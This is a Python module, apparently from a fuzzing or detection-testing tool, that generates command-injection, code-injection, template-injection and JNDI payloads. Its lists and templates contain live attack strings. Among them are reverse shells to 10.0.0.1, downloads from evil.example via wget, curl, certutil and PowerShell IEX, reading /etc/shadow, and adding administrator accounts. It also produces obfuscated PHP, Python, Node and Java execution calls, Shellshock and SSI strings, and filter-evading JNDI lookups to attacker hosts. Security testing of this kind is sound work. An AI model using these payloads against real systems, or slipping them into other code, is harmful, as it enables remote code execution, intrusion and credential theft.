"""Command, code and template injection attack grammars. Each function takes the explicit random.Random and
returns a payload."""
import base64
import string

from ..draw import pick, rstr

UNIX_CMDS = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "wget http://evil.example/x.sh -O /tmp/x", "curl http://evil.example/$(whoami)",
             "nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "sleep 5", "ping -c 3 127.0.0.1", "echo vulnerable",
             "cat /etc/shadow", "rm -rf /tmp/*", "python -c 'import os;os.system(\"id\")'", "perl -e 'print 1'", "nslookup x.evil.example", "ifconfig", "ps aux", "env", "busybox nc 1.2.3.4 9 -e sh"]
WIN_CMDS = ["dir", "dir c:\\", "type c:\\windows\\win.ini", "whoami", "net user", "ipconfig /all", "powershell -enc " + base64.b64encode("whoami".encode("utf-16le")).decode(),
            "cmd /c whoami", "certutil -urlcache -split -f http://evil.example/x.exe", "systeminfo", "ping -n 3 127.0.0.1", "tasklist", "powershell IEX(New-Object Net.WebClient).DownloadString('http://x.example/a')"]


def rce_unix(r):
    c = pick(r, UNIX_CMDS)
    if r.random() < 0.25:
        # Commands run by full path, as payload lists write them to dodge PATH filtering.
        c = pick(r, ["/bin/", "/usr/bin/", "/usr/local/bin/", "/sbin/"]) + c
    pre = pick(r, ["", "1", "127.0.0.1", "x", "foo.txt", "a'", "a)", "\"", "'"])
    if r.random() < 0.08 and " " in c:
        # A whole command line as the value, for parameters passed to a shell as they are.
        return c
    if r.random() < 0.1:
        # A written-out newline ("\\n"), for back ends that unescape it before a shell or an eval sees it.
        return pick(r, [f"\\n{c}\\n", f"{pre}\\n{c}", f"\\n{c}|", f"{pre}\\n{c};"])
    return pick(r, [f"{pre};{c}", f"{pre}; {c}", f"{pre}|{c}", f"{pre} | {c}", f"{pre}&&{c}", f"{pre}||{c}", f"{pre}`{c}`", f"{pre}$({c})",
                 f"{pre}\n{c}", f"{pre};{c};", f"$({c})", f"`{c}`", f"{pre}&{c}&", f";{c.replace(' ', '${IFS}')}", f"{pre}|{c}#", f"';{c};'"])


def rce_windows(r):
    c = pick(r, WIN_CMDS)
    pre = pick(r, ["", "1", "127.0.0.1", "x"])
    if r.random() < 0.1:
        # Whole command lines only: a bare "dir" or "whoami" is a word, not an attack.
        return pick(r, [pick(r, [w for w in WIN_CMDS if " " in w]), "reg add \"HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f",
                        f"net user {rstr(r)} {rstr(r)} /add", "net localgroup administrators x /add", "wmic process call create calc.exe"])
    return pick(r, [f"{pre}&{c}", f"{pre} & {c}", f"{pre}|{c}", f"{pre}&&{c}", f"{pre}||{c}", f"{pre}\r\n{c}", f"\"&{c}&\""])


PHP_EXEC = ["system", "exec", "passthru", "shell_exec", "popen", "proc_open", "pcntl_exec", "assert", "eval", "create_function", "call_user_func"]
PHP_SRC = ["$_GET['c']", "$_POST[1]", "$_REQUEST['cmd']", "base64_decode('{b}')", "str_rot13('{r}')", "gzinflate(base64_decode('{b}'))", "'{c}'", "\"{c}\"", "$_COOKIE['x']", "hex2bin('{h}')"]


def rce_code(r):
    c = pick(r, UNIX_CMDS)
    src = pick(r, PHP_SRC).format(b=base64.b64encode(f"system('{c}');".encode()).decode(), r=c.translate(str.maketrans(string.ascii_lowercase, string.ascii_lowercase[13:] + string.ascii_lowercase[:13])), c=c, h=c.encode().hex())
    fn = pick(r, PHP_EXEC)
    k = r.random()
    if k < 0.35:
        call = f"{fn}({src})"
        return pick(r, [call, call + ";", f"<?php {call}; ?>", f"<?={call}?>", f"';{call};//", f"\";{call};//", f"${{@{call}}}", f"{{${{{call}}}}}", f"1;{call}", f"\n{call}"])
    if k < 0.55:
        return pick(r, [f"__import__('os').system('{c}')", f"__import__('os').popen('{c}').read()", f"os.system('{c}')", f"subprocess.check_output('{c}',shell=True)",
                     f"exec(\"import os;os.system('{c}')\")", f"eval(compile('import os','x','exec'))", f"getattr(__import__('os'),'system')('{c}')", f"__import__('subprocess').call(['{c.split()[0]}'])"])
    if k < 0.7:
        return pick(r, [f"require('child_process').exec('{c}')", f"require('child_process').execSync('{c}').toString()", f"process.mainModule.require('child_process').exec('{c}')",
                     f"global.process.mainModule.constructor._load('child_process').exec('{c}')", f"new Function('return process')().mainModule.require('child_process').execSync('{c}')"])
    if k < 0.85:
        return pick(r, [f"Runtime.getRuntime().exec(\"{c}\")", f"new java.lang.ProcessBuilder(\"{c.split()[0]}\").start()", f"java.lang.Runtime.getRuntime().exec('{c}')",
                     f"#{{T(java.lang.Runtime).getRuntime().exec('{c}')}}", f"%{{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('{c}'))}}", f"`{c}`.to_s", f"IO.popen('{c}').read", f"Kernel.system('{c}')"])
    return pick(r, [f"() {{ :; }}; /bin/bash -c '{c}'", f"() {{ :;}}; echo; /bin/{c}", f"<!--#exec cmd=\"{c}\"-->", f"<!--#EXEC cmd=\"/bin/{c}\" -->",
                 f"<!--#include virtual=\"/etc/passwd\"-->", f"<!--#echo var=\"DOCUMENT_ROOT\"-->", f"() {{ _; }} >_[$($())] {{ {c}; }}", "phpinfo();", f"<?php echo `{c}`; ?>",
                 f"preg_replace('/.*/e','system(\"{c}\")','')", f"${{system('{c}')}}"])


def rce_ssti(r):
    a, b = r.randint(2, 99), r.randint(2, 99)
    return pick(r, [f"{{{{{a}*{b}}}}}", f"${{{a}*{b}}}", f"<%= {a}*{b} %>", f"#{{{a}*{b}}}", f"*{{{a}*{b}}}", f"{{{{config}}}}", f"{{{{config.items()}}}}",
                 "{{''.__class__.__mro__[1].__subclasses__()}}", "{{self.__init__.__globals__.__builtins__}}",
                 "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
                 "{% import os %}{{ os.system('whoami') }}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
                 "{{lipsum.__globals__['os'].popen('id').read()}}", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
                 "{{7*'7'}}", "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}", "@(1+2)", "[[${7*7}]]"])


def rce_jndi(r):
    host = pick(r, ["evil.example", "x.attacker.example", "10.0.0.5", "${hostName}.dns.example", "127.0.0.1:1389"])
    proto = pick(r, ["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "http"])
    core = f"jndi:{proto}://{host}/{pick(r, ['a', 'Exploit', 'o=tomcat', rstr(r)])}"
    return pick(r, [f"${{{core}}}", f"${{${{lower:j}}ndi:{proto}://{host}/a}}", f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:{proto}://{host}/a}}",
                 f"${{${{env:NaN:-j}}ndi${{env:NaN:-:}}{proto}://{host}/a}}", f"${{j${{upper:n}}di:{proto}://{host}/a}}", f"${{jndi:${{lower:{proto}}}://{host}/a}}",
                 f"${{${{date:'j'}}${{date:'n'}}${{date:'d'}}${{date:'i'}}:{proto}://{host}/a}}", f"${{{core}}}".replace("jndi", "${lower:jndi}")])


